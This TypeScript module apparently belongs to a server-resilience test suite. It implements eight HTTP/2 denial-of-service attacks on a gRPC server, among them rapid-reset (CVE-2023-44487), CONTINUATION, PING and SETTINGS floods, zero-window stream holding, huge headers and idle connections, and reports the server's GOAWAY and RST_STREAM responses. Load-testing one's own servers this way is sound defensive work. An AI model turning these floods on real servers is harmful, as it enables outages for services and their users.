import { setImmediate as yieldToLoop, setTimeout as sleep } from "node:timers/promises";
import {
  continuationFrame,
  dataFrame,
  ErrorCode,
  grpcRequestHeaders,
  headerBlock,
  headersFrame,
  pingFrame,
  rstStreamFrame,
  Setting,
  settingsFrame,
} from "./http2-frames.js";
import { driveAttack, flood, type AttackCounts } from "./attack-driver.js";
import { openRawHttp2Connection, type Http2Target, type RawHttp2Connection, type RawHttp2ConnectionOptions } from "./raw-http2-connection.js";

/** The attacks {@link runHttp2Attack} knows. */
export const HTTP2_ATTACKS = [
  "rapid-reset",
  "continuation-flood",
  "ping-flood",
  "settings-flood",
  "open-streams",
  "zero-window",
  "huge-headers",
  "idle-connections",
] as const;
/** One of {@link HTTP2_ATTACKS}. */
export type Http2AttackName = (typeof HTTP2_ATTACKS)[number];

/** Options of {@link runHttp2Attack}. */
export interface Http2AttackOptions {
  /** The server under attack (loopback only). */
  readonly target: Http2Target;
  /** The unary gRPC method the attack calls when it needs real calls, e.g. `/pkg.Service/Method`. */
  readonly path: string;
  /** A framed gRPC request message for `path` (5-byte prefix, then the message). */
  readonly body: Uint8Array;
  /** How long the attack goes on, in milliseconds. */
  readonly durationMs: number;
  /** Connections the attack holds at once (default per attack: 1, or 20 for zero-window and 1000 for idle-connections). */
  readonly connections?: number;
}

/** What one attack did and how the server answered it. */
export interface Http2AttackReport extends AttackCounts {
  readonly attack: Http2AttackName;
  /** What `sent` counts, e.g. `streams reset` or `PING frames`. */
  readonly unit: string;
  /** GOAWAY frames received, by error code name (the first of each connection). */
  readonly goaways: Record<string, number>;
  /** RST_STREAM frames received (streams the server refused or ended). */
  readonly streamsReset: number;
}

/** Largest number of units any attack sends, whatever its duration: the count bound. */
const MAX_UNITS = 2_000_000;
/** Streams one connection opens in the open-streams attack. */
const OPEN_STREAMS_PER_CONNECTION = 10_000;
/** Requests one connection sends in the zero-window attack. */
const ZERO_WINDOW_REQUESTS_PER_CONNECTION = 1000;
const ERROR_NAMES = Object.fromEntries(Object.entries(ErrorCode).map(([name, code]) => [code, name]));

/** The abuse one connection commits until `running()` turns false or the connection closes; returns the units sent. */
type Abuse = (connection: RawHttp2Connection, running: () => boolean, nextStreamId: () => number) => Promise<number>;

interface AttackPlan {
  readonly unit: string;
  readonly connections: number;
  /** How the `n`th connection (from 0) is opened; default the preface and no SETTINGS. */
  readonly connection?: (n: number) => RawHttp2ConnectionOptions;
  readonly abuse: Abuse;
}

/**
 * Runs one hostile-client attack on a loopback HTTP/2 (gRPC) server for
 * `options.durationMs`, bounded in count as well (at most two million frames, streams or
 * connections, whichever the attack counts), and reports what it sent and how the
 * server reacted. Like a real attacker it reconnects when the server closes a
 * connection, until the time is up; every connection is closed when it returns.
 *
 * - `rapid-reset`: whole requests, each cancelled at once with RST_STREAM (CVE-2023-44487).
 * - `continuation-flood`: a header block that never ends, CONTINUATION after CONTINUATION.
 * - `ping-flood`: PING frames back to back (their ACKs are read).
 * - `settings-flood`: SETTINGS frames back to back, each changing the window size.
 * - `open-streams`: 10 000 streams opened on one connection whose requests never come.
 * - `zero-window`: requests sent with a stream window of 0, so no answer can ever be sent.
 * - `huge-headers`: requests with a 1 MiB header, then with 10 000 headers.
 * - `idle-connections`: 1000 connections opened and left silent (half of them without even the preface).
 */
export async function runHttp2Attack(name: Http2AttackName, options: Http2AttackOptions): Promise<Http2AttackReport> {
  const plan = planOf(name, options);
  const returned = { goaways: {} as Record<string, number>, streamsReset: 0 };
  const counts = await driveAttack({
    connections: plan.connections,
    durationMs: options.durationMs,
    maxUnits: MAX_UNITS,
    open: async (n) => {
      const connection = await openRawHttp2Connection(options.target, plan.connection?.(n));
      let streamId = -1;
      return Object.assign(connection, { nextStreamId: () => (streamId += 2) });
    },
    abuse: (connection, running) => plan.abuse(connection, running, connection.nextStreamId),
    done: (connection) => {
      returned.streamsReset += connection.stats.frames["RST_STREAM"] ?? 0;
      const code = connection.stats.goawayCode;
      if (code === undefined) return;
      const codeName = ERROR_NAMES[code] ?? `0x${code.toString(16)}`;
      returned.goaways[codeName] = (returned.goaways[codeName] ?? 0) + 1;
    },
  });
  return { attack: name, unit: plan.unit, ...counts, ...returned };
}

function planOf(name: Http2AttackName, options: Http2AttackOptions): AttackPlan {
  const requestBlock = headerBlock(grpcRequestHeaders(options.path, { scheme: options.target.tls ? "https" : "http" }));
  const request = (id: number): Buffer[] => [headersFrame(id, requestBlock), dataFrame(id, options.body, { endStream: true })];
  switch (name) {
    case "rapid-reset":
      return {
        unit: "streams reset",
        connections: options.connections ?? 1,
        abuse: (connection, running, next) =>
          flood(connection.send, running, 100, () =>
            Buffer.concat(
              Array.from({ length: 100 }, () => {
                const id = next();
                return [...request(id), rstStreamFrame(id, ErrorCode.CANCEL)];
              }).flat(),
            ),
          ),
      };
    case "continuation-flood": {
      const filler = continuationFrame(0, headerBlock([["x-flood", "a".repeat(4000)]]));
      return {
        unit: "CONTINUATION frames",
        connections: options.connections ?? 1,
        abuse: async (connection, running, next) => {
          const id = next();
          await connection.send(headersFrame(id, requestBlock, { endHeaders: false }));
          filler.writeUInt32BE(id, 5);
          return flood(connection.send, running, 16, () => Buffer.concat(Array.from({ length: 16 }, () => filler)));
        },
      };
    }
    case "ping-flood": {
      let opaque = 0;
      return {
        unit: "PING frames",
        connections: options.connections ?? 1,
        abuse: (connection, running) => flood(connection.send, running, 1000, () => Buffer.concat(Array.from({ length: 1000 }, () => pingFrame(opaque++)))),
      };
    }
    case "settings-flood": {
      let toggle = 0;
      return {
        unit: "SETTINGS frames",
        connections: options.connections ?? 1,
        abuse: (connection, running) =>
          flood(connection.send, running, 500, () =>
            Buffer.concat(Array.from({ length: 500 }, () => settingsFrame([[Setting.INITIAL_WINDOW_SIZE, 65_535 - (toggle++ % 2)], [Setting.HEADER_TABLE_SIZE, 4096]]))),
          ),
      };
    }
    case "open-streams":
      return {
        unit: "streams opened",
        connections: options.connections ?? 1,
        abuse: async (connection, running, next) => {
          let opened = 0;
          while (running() && opened < OPEN_STREAMS_PER_CONNECTION) {
            if (!(await connection.send(Buffer.concat(Array.from({ length: 100 }, () => headersFrame(next(), requestBlock)))))) break;
            opened += 100;
            await yieldToLoop();
          }
          return opened;
        },
      };
    case "zero-window":
      return {
        unit: "requests never read",
        connections: options.connections ?? 20,
        connection: () => ({ settings: [[Setting.INITIAL_WINDOW_SIZE, 0]] }),
        // Within the rules: each connection opens as many streams as the server allows
        // (up to 1000), ten at a time, then holds them all without ever opening its
        // window, the way answers pile up for a reader that stopped reading.
        abuse: async (connection, running, next) => {
          await Promise.race([connection.settingsReceived, connection.closed]);
          const allowed = Math.min(ZERO_WINDOW_REQUESTS_PER_CONNECTION, connection.stats.serverSettings[Setting.MAX_CONCURRENT_STREAMS] ?? Infinity);
          let sent = 0;
          while (running() && sent < allowed) {
            const batch = Math.min(10, allowed - sent);
            if (!(await connection.send(Buffer.concat(Array.from({ length: batch }, () => request(next())).flat())))) break;
            sent += batch;
            await sleep(10);
          }
          return sent;
        },
      };
    case "huge-headers": {
      const big = headerBlock([...grpcRequestHeaders(options.path), ["x-huge", "a".repeat(1024 * 1024)]]);
      const many = headerBlock([...grpcRequestHeaders(options.path), ...Array.from({ length: 10_000 }, (_, n) => [`x-h${n}`, "v"] as const)]);
      const inFrames = (id: number, block: Buffer): Buffer[] => {
        const frames: Buffer[] = [];
        for (let offset = 0; offset < block.length; offset += 16_384) {
          const piece = block.subarray(offset, offset + 16_384);
          const last = offset + 16_384 >= block.length;
          frames.push(offset === 0 ? headersFrame(id, piece, { endHeaders: last, endStream: true }) : continuationFrame(id, piece, { endHeaders: last }));
        }
        return frames;
      };
      let n = 0;
      return {
        unit: "requests with huge headers",
        connections: options.connections ?? 1,
        abuse: (connection, running, next) => flood(connection.send, running, 1, () => Buffer.concat(inFrames(next(), n++ % 2 === 0 ? big : many))),
      };
    }
    case "idle-connections":
      return {
        unit: "idle connections",
        connections: options.connections ?? 1000,
        connection: (n) => ({ preface: n % 2 === 0 }),
        abuse: async () => 1,
      };
  }
}
